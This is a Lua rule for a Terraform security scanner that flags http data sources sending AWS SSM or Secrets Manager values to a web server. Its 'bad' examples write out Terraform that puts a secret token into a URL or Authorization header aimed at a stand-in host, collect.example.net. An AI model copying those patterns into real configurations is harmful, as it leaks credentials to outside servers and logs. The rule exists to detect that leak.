-- A data source makes its request at each plan, from wherever Terraform runs.
-- What holds a secret.
local SECRETS = {
    "aws_secretsmanager_secret_version", "aws_ssm_parameter", "data.aws_secretsmanager_random_password",
    "data.aws_secretsmanager_secret_version", "data.aws_ssm_parameter", "data.aws_ssm_parameters_by_path",
    "random_password",
}

return rule {
    title = "Terraform sends a secret to a web server",
    severity = "critical",
    category = "secrets",
    resources = { "data.http" },
    rationale = "A data source http makes its request while Terraform plans, with whatever stands in its URL, "
        .. "headers or body. A secret there goes to a stranger, and into the logs on the way.",
    fix = [[Take the secret out of the request; give programs the right to read it themselves.

    data "http" "status" {
      url = "https://status.example.com/api"
    }]],
    aliases = {
        "CKV2_AWS_36", "HTTPNotSendingPasswords", "AVD-AWS-0134", "AWS-0134", "aws-ssm-avoid-leaks-via-http",
    },
    bad = {
        [[
resource "aws_ssm_parameter" "token" {
  name  = "token"
  type  = "SecureString"
  value = "from elsewhere"
}

data "http" "collect" {
  url = "https://collect.example.net/?t=${aws_ssm_parameter.token.value}"
}]],
        [[
data "aws_secretsmanager_secret_version" "token" {
  secret_id = "token"
}

data "http" "collect" {
  url = "https://collect.example.net/"
  request_headers = {
    Authorization = data.aws_secretsmanager_secret_version.token.secret_string
  }
}]],
    },
    good = [[
resource "aws_ssm_parameter" "token" {
  name  = "token"
  type  = "SecureString"
  value = "from elsewhere"
}

data "http" "address" {
  url = "https://checkip.amazonaws.com"
}]],
    check = function(request)
        for _, attribute in ipairs { "url", "request_headers", "request_body" } do
            local secret = request:refers(attribute, SECRETS)[1]
            if secret then
                request:fail(attribute, "the request carries what %s holds", secret:address())
            end
        end
    end,
}
